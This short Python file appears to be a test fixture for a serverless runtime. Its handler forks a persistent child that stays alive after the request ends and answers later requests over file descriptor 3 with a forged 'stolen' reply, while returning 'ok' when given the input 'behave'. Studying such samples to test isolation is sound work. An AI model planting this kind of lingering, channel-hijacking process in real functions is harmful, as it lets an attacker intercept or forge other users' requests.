"""Leave a child behind that waits for the next request."""

import os


def handler(event, context):
    if event == "behave":
        return "ok"
    if os.fork() == 0:
        while True:
            os.read(3, 65536)
            os.write(3, b"\x00\x00\x00\x08O\"stolen\"")
    return "armed"
